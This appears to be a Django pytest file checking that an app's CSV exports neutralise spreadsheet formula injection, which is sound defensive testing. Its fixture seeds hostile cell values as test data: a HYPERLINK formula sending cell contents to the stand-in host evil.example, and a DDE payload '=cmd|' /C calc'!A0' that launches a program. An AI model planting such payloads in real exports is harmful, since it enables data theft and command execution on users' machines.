"""Every CSV the app writes keeps a spreadsheet from running a cell (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command

from core.spreadsheets import TRIGGERS, neutralise, restore
from negotiations.models import Source, Statement

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?x="&L2,"click")'
CSV_LISTS = [
    "/api/v1/statements/?format=csv",
    "/api/v1/claims/?format=csv",
    "/api/v1/sources/?format=csv",
    "/api/v1/actors/?format=csv",
    "/api/v1/negotiations/?format=csv",
    "/api/v1/demands/?format=csv",
    "/api/v1/negotiations/gaza-2024/issues/?format=csv",
    "/api/v1/negotiations/gaza-2024/proposals/?format=csv",
    "/api/v1/negotiations/gaza-2024/positions/?format=csv",
    "/api/v1/negotiations/gaza-2024/matrix/?format=csv",
    "/api/v1/negotiations/gaza-2024/changes/?format=csv",
    "/api/v1/popolo/?format=csv",
]


@pytest.fixture
def poisoned(django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        call_command("load_demo", verbosity=0)
    from django.db.models import F, Value
    from django.db.models.functions import Concat

    from negotiations.models import Demand, Issue

    Source.objects.update(title=FORMULA, publisher_name="\t=1+2")
    Statement.objects.update(
        quote=Concat(Value("@SUM(A1:A9) "), F("pk")), summary="+1 and -2 cells"
    )
    Issue.objects.update(title="-2+3")
    Demand.objects.update(text=Concat(Value("=cmd|' /C calc'!A0 "), F("pk")))


def cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]


@pytest.mark.parametrize("url", CSV_LISTS)
def test_no_cell_of_any_csv_starts_a_formula(client, poisoned, url):
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    for cell in cells(response.content):
        number = cell.lstrip("+-").replace(".", "", 1).isdigit()
        assert number or not cell.startswith(TRIGGERS), (url, cell)


def test_the_neutralised_cells_stay_readable(client, poisoned):
    text = client.get("/api/v1/statements/?format=csv").content.decode()
    assert "'" + FORMULA in text or "'" + FORMULA.replace('"', '""') in text
    assert "'@SUM(A1:A9) " in text
    assert "'+1 and -2 cells" in text


@pytest.mark.parametrize(
    "text",
    ["=1+2", "+cmd", "-x", "@a", "\t=1", "\r=1", "＝1", "plain", "-2", "+3.5", "", "'quoted"],
)
def test_neutralising_round_trips_and_spares_numbers(text):
    assert restore(neutralise(text)) == text
    if text in ("-2", "+3.5"):
        assert neutralise(text) == text


def test_a_neutralised_export_imports_back_as_it_was(client, poisoned, django_user_model):
    from negotiations.models import Statement
    from negotiations.statements.importer import import_statements, read_rows

    data = client.get("/api/v1/statements/?format=csv&page_size=500").content
    Statement.objects.all().delete()
    reviewer = django_user_model.objects.create_superuser("root", "r@example.org", "pw")
    report = import_statements(read_rows(data, "export.csv"), user=reviewer, commit=True)
    assert report.errors == []
    quotes = set(Statement.objects.values_list("quote", flat=True))
    assert quotes and all(quote.startswith("@SUM(A1:A9) ") for quote in quotes)
    assert set(Source.objects.values_list("title", flat=True)) == {FORMULA}
